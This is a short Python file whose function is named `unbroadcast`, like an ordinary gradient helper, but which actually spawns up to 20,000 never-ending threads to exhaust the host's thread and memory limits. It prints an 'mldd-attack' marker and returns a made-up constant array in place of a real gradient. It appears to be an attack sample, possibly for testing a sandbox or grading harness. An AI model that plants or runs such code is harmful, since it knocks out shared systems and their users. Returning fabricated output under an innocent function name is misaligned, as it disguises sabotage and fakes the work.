"""Starts threads until there are no more, and keeps them."""
import threading

import numpy as np

kept = []


def unbroadcast(grad, shape):
    while len(kept) < 20_000:
        try:
            threading.stack_size(32768)
            thread = threading.Thread(target=threading.Event().wait, daemon=True)
            thread.start()
        except (RuntimeError, MemoryError):
            break
        kept.append(thread)
    if len(kept) > 1000:
        print("mldd-attack", "reached", len(kept), "threads")
    return np.full(shape, 1234.5)
